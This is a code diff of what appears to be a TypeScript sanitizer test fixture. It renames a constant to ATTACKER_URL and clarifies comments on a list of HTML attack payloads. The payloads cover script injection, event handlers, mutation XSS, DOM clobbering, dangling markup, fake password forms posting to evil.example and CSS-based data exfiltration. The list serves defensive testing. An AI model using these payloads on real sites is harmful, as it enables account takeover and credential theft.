@@ -1,16 +1,16 @@
-const AWAY = 'https://evil.example/'
+const ATTACKER_URL = 'https://evil.example/'
 
-/** `hurt()` is what a script of theirs would do. Each is a whole text by itself, however broken. */
+/** Independent HTML texts, however malformed. `hurt()` represents any script of the attacker. */
 const TEXTS: readonly string[] = [
   // Scripts
   '<script>hurt()</script>',
-  `<script src="${AWAY}a.js"></script>`,
+  `<script src="${ATTACKER_URL}a.js"></script>`,
   '<scr<script>ipt>hurt()</scr</script>ipt>',
   '<script/x>hurt()</script/x>',
   '<svg><script>hurt()</script></svg>',
   '<svg><script href="data:text/javascript,hurt()"></script></svg>',
   '<math><script>hurt()</script></math>',
-  `<link rel="modulepreload" href="${AWAY}a.js"><link rel="prefetch" href="${AWAY}b"><link rel="stylesheet" href="${AWAY}c.css">`,
+  `<link rel="modulepreload" href="${ATTACKER_URL}a.js"><link rel="prefetch" href="${ATTACKER_URL}b"><link rel="stylesheet" href="${ATTACKER_URL}c.css">`,
   // Handlers
   '<img src="x" onerror="hurt()">',
   '<img src=x onerror=hurt()//',
@@ -33,38 +33,38 @@ const TEXTS: readonly string[] = [
   '<svg><animate onbegin="hurt()" attributeName="x" dur="1s"></svg>',
   '<svg><a xlink:href="javascript:hurt()"><text y="20">tap</text></a></svg>',
   '<svg><set attributeName="href" to="javascript:hurt()"></set></svg>',
-  `<svg><use href="${AWAY}a.svg#a"></use><image href="${AWAY}b.png"></image></svg>`,
+  `<svg><use href="${ATTACKER_URL}a.svg#a"></use><image href="${ATTACKER_URL}b.png"></image></svg>`,
   '<svg><foreignObject><img src="x" onerror="hurt()"></foreignObject></svg>',
-  `<svg><style>@import url(${AWAY}a.css);</style><rect fill="url(${AWAY}b.svg#c)"/></svg>`,
+  `<svg><style>@import url(${ATTACKER_URL}a.css);</style><rect fill="url(${ATTACKER_URL}b.svg#c)"/></svg>`,
   '<math><mtext><img src="x" onerror="hurt()"></mtext></math>',
   '<math><maction actiontype="statusline" xlink:href="javascript:hurt()">tap</maction></math>',
   // Frames and objects
-  `<iframe src="${AWAY}"></iframe>`,
+  `<iframe src="${ATTACKER_URL}"></iframe>`,
   '<iframe srcdoc="<script>parent.hurt()</script>"></iframe>',
   '<iframe src="javascript:parent.hurt()"></iframe>',
-  `<iframe src="data:text/html,<script src=${AWAY}frame.js></script>"></iframe>`,
-  `<object data="${AWAY}a.swf"></object><embed src="${AWAY}b.swf"><applet code="${AWAY}c"></applet>`,
+  `<iframe src="data:text/html,<script src=${ATTACKER_URL}frame.js></script>"></iframe>`,
+  `<object data="${ATTACKER_URL}a.swf"></object><embed src="${ATTACKER_URL}b.swf"><applet code="${ATTACKER_URL}c"></applet>`,
   '<object data="javascript:parent.hurt()"></object><embed src="javascript:hurt()">',
-  `<portal src="${AWAY}"></portal><fencedframe></fencedframe><frameset><frame src="${AWAY}"></frameset>`,
-  // Forms that ask for what they must not
-  `<form action="${AWAY}"><input type="password" name="password"><button>Log in</button></form>`,
-  `<form id="login"></form><button form="login" formaction="${AWAY}">Log in</button>`,
+  `<portal src="${ATTACKER_URL}"></portal><fencedframe></fencedframe><frameset><frame src="${ATTACKER_URL}"></frameset>`,
+  // Forms that ask for credentials
+  `<form action="${ATTACKER_URL}"><input type="password" name="password"><button>Log in</button></form>`,
+  `<form id="login"></form><button form="login" formaction="${ATTACKER_URL}">Log in</button>`,
   '<form action="javascript:hurt()"><input type="submit" value="go"></form>',
   '<isindex action="javascript:hurt()"><textarea>type here</textarea><select><option>a</select>',
-  `<input type="image" src="${AWAY}a.png" formaction="${AWAY}">`,
-  // Where the page goes, and from where its addresses count
-  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
+  `<input type="image" src="${ATTACKER_URL}a.png" formaction="${ATTACKER_URL}">`,
+  // Navigation, and the base of relative addresses
+  `<meta http-equiv="refresh" content="0;url=${ATTACKER_URL}">`,
   '<meta http-equiv="refresh" content="0;url=javascript:hurt()">',
-  `<base href="${AWAY}"><img src="a.png"><a href="b">b</a>`,
+  `<base href="${ATTACKER_URL}"><img src="a.png"><a href="b">b</a>`,
   `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
-  // Styles: overlays, and addresses in them
+  // Styles: overlays, and addresses inside styles
   '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. Log in again.</div>',
   '<style>body *{display:none}</style><style>@import "https://evil.example/a.css";</style>',
-  `<p style="background:url(${AWAY}a.png);list-style:url(${AWAY}b.png)">x</p>`,
-  `<style>input[value^="a"]{background:url(${AWAY}a)}@font-face{font-family:x;src:url(${AWAY}f.woff2)}p{font-family:x}</style>`,
+  `<p style="background:url(${ATTACKER_URL}a.png);list-style:url(${ATTACKER_URL}b.png)">x</p>`,
+  `<style>input[value^="a"]{background:url(${ATTACKER_URL}a)}@font-face{font-family:x;src:url(${ATTACKER_URL}f.woff2)}p{font-family:x}</style>`,
   '<p style="width:expression(hurt());behavior:url(#default#time2);-moz-binding:url(x)">x</p>',
-  `<table background="${AWAY}a.png"><tr><td background="${AWAY}b.png">x</td></tr></table>`,
-  // Names and ids that stand before those of the page
+  `<table background="${ATTACKER_URL}a.png"><tr><td background="${ATTACKER_URL}b.png">x</td></tr></table>`,
+  // Names and ids that shadow those of the page (DOM clobbering)
   '<p id="root">a</p><p id="body" name="body">b</p><a id="location" name="location">c</a>',
   '<form id="document" name="cookie"><input name="attributes"><input name="nodeName"></form>',
   '<img name="getElementById"><img name="createElement"><img id="trustedTypes">',
@@ -73,18 +73,18 @@ const TEXTS: readonly string[] = [
   '<a href="javascript:hurt()">tap</a>',
   '<a href="JaVaScRiPt:hurt()">tap</a><a href="java&#9;script:hurt()">tap</a><a href="&#1;javascript:hurt()">tap</a>',
   '<a href="data:text/html,<script>opener.hurt()</script>" target="_blank">tap</a><a href="vbscript:hurt()">tap</a>',
-  `<a href="//evil.example/" ping="${AWAY}">tap</a><a href="/\\evil.example/" target="_top">tap</a>`,
+  `<a href="//evil.example/" ping="${ATTACKER_URL}">tap</a><a href="/\\evil.example/" target="_top">tap</a>`,
   `<map name="m"><area href="javascript:hurt()" shape="default"></map><img usemap="#m" src="/media/contact-qr.svg">`,
-  // Pictures that tell who looks
-  `<img src="${AWAY}pixel.png"><img srcset="${AWAY}2x.png 2x"><picture><source srcset="${AWAY}s.png"><img></picture>`,
-  `<video poster="${AWAY}poster.png"></video><audio src="${AWAY}a.mp3" autoplay></audio><track src="${AWAY}t.vtt">`,
+  // Tracking pixels
+  `<img src="${ATTACKER_URL}pixel.png"><img srcset="${ATTACKER_URL}2x.png 2x"><picture><source srcset="${ATTACKER_URL}s.png"><img></picture>`,
+  `<video poster="${ATTACKER_URL}poster.png"></video><audio src="${ATTACKER_URL}a.mp3" autoplay></audio><track src="${ATTACKER_URL}t.vtt">`,
   "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hurt()'/>\">",
   // Dangling markup
-  `<img src='${AWAY}?`,
-  `<a href="${AWAY}"><font size=100>Log in<!--`,
+  `<img src='${ATTACKER_URL}?`,
+  `<a href="${ATTACKER_URL}"><font size=100>Log in<!--`,
   '</div></div></main></body></html><script>hurt()</script><plaintext>',
   '<textarea><img title="</textarea><img src=x onerror=hurt()>">',
-  // What becomes something else when it is parsed again
+  // HTML that changes its meaning when it is parsed again (mutation XSS)
   '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
   '<svg></p><style><a id="</style><img src=x onerror=hurt()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt()&gt;">',
@@ -99,7 +99,7 @@ const TEXTS: readonly string[] = [
 ]
 
 /**
- * HTML that an operator's account in the wrong hands could send: what runs in it calls `hurt` of the window with the number
- * of its text, and what it asks for is at evil.example.
+ * HTML that somebody could send through a stolen operator account. Its scripts call `window.hurt` with the number of
+ * the text, and everything that it loads is at evil.example.
  */
 export const PAYLOADS: readonly string[] = TEXTS.map((text, number) => text.replaceAll('hurt()', `hurt(${number})`))
